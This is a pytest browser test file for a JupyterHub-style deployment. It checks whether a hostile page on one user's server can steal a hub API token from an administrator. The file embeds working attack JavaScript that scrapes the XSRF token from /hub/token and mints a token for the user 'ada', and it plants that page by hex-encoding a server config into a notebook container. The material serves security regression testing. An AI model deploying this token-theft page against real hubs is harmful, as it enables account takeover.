"""A hostile page of somebody's server, opened by an administrator: with names of their own, it gets
nothing of the hub; at the hub's host, it gets a token with the administrator's rights."""

import re
from collections.abc import Iterator

import pytest
import requests
from playwright.sync_api import Page, expect

from tests.browser.steps import run_cell, sign_in
from tests.deployment import Deployment, configured, until
from tests.people import run
from tests.person import Person

EVIL = """
from jupyter_server.serverapp import ServerWebApplication
from tornado.web import RequestHandler

PAGE = '''
<button>Look at this</button><p>nothing yet</p>
<script>
const hub = "HUB", said = document.querySelector("p");
async function attack() {
  const tokens = window.open(hub + "/hub/token");
  for (let tries = 0; tries < 100; tries++) {
    await new Promise(go => setTimeout(go, 100));
    const found = tokens.document.documentElement?.innerHTML.match(/xsrf_token: "([^"]+)"/);
    if (!found) continue;
    const answer = await fetch(hub + "/hub/api/users/ada/tokens", {
      method: "POST", credentials: "include", headers: {"X-XSRFToken": found[1]},
    });
    return "token " + (await answer.json()).token;
  }
}
document.querySelector("button").onclick =
  () => attack().then(got => said.textContent = got, error => said.textContent = "no: " + error);
</script>
'''

class Evil(RequestHandler):
    def get(self):
        self.set_header("Cross-Origin-Opener-Policy", "same-origin")
        self.finish(PAGE)

made = ServerWebApplication.__init__
def make(self, *arguments, **named):
    made(self, *arguments, **named)
    self.add_handlers(".*", [("/user/ben/evil", Evil)])
ServerWebApplication.__init__ = make
"""
"""What ben writes into his jupyter_server_config.py: a page of his for everybody."""


@pytest.fixture(scope="module", params=["none", "localhost"])
def site(request: pytest.FixtureRequest, deployment: Deployment) -> Iterator[Deployment]:
    """The hub with people's servers at its own host, and then with names of their own."""
    with configured(deployment, "site", user_domains=request.param):
        deployment.up()
        yield deployment


def restart(person: Person, user: str, *, wanted: bool = True) -> None:
    """End one's own server, and start it again if it is wanted."""
    person.api("GET", "user")
    server = f"{person.site}/hub/api/users/{user}/server"
    xsrf = next(str(one.value) for one in person.session.cookies if one.name == "_xsrf")
    headers = {"X-XSRFToken": xsrf}

    def state() -> dict[str, bool]:
        found: dict[str, bool] = person.api("GET", f"users/{user}")["servers"].get("", {})
        return found

    if state():
        person.session.delete(server, headers=headers).raise_for_status()
        until(lambda: not state())
    if wanted:
        person.session.post(server, headers=headers).raise_for_status()
        until(lambda: state().get("ready"))


@pytest.fixture
def trap(site: Deployment) -> Iterator[str]:
    """The address of ben's page."""
    ben = Person(site.url)
    ben.sign_in("ben")
    restart(ben, "ben")
    notebook = site.container("notebook-ben")
    config = EVIL.replace("HUB", site.url).encode().hex()
    write = f"bytes.fromhex('{config}')"
    place = "pathlib.Path.home() / '.jupyter/jupyter_server_config.py'"
    command = f"import pathlib; file = {place}; file.parent.mkdir(exist_ok=True); "
    run(notebook, f'python3 -c "{command}file.write_bytes({write})"')
    restart(ben, "ben")
    yield f"{site.server('ben')}/evil"
    run(site.container("notebook-ben"), "rm ~/.jupyter/jupyter_server_config.py")
    restart(ben, "ben", wanted=False)


def test_a_person_works_where_their_server_is(page: Page, site: Deployment) -> None:
    sockets: list[str] = []
    page.on("websocket", lambda socket: sockets.append(socket.url))
    sign_in(page, site, "ada")
    assert run_cell(page, "6*7") == "42"
    assert any(url.startswith(site.server("ada").replace("http", "ws")) for url in sockets)
    page.goto(f"{site.url}/user/ada/lab")
    page.wait_for_url(f"{site.server('ada')}/lab**")


def test_a_page_of_somebodys_gets_the_hub_only_at_the_hubs_own_host(page: Page, site, trap) -> None:
    assert requests.get(trap, timeout=10).ok, "it asks nobody who they are"
    sign_in(page, site, "ada")
    page.goto(trap)
    page.get_by_role("button", name="Look at this").click()
    said = page.locator("p")
    expect(said).not_to_have_text("nothing yet")
    token = re.fullmatch("token (.+)", said.inner_text())
    if site.config["site"]["user_domains"] == "none":
        assert token, said.inner_text()
        rights = {"Authorization": f"token {token[1]}"}
        who = requests.get(f"{site.url}/hub/api/user", headers=rights, timeout=10).json()
        assert who["name"] == "ada"
    else:
        assert said.inner_text().startswith("no: SecurityError"), said.inner_text()
        ask = f"fetch('{site.url}/hub/home', {{credentials: 'include'}}).catch(String)"
        assert page.evaluate(ask) == "TypeError: Failed to fetch"
        assert {one["domain"] for one in page.context.cookies(trap)} == set(), (
            "the hub's are its own"
        )
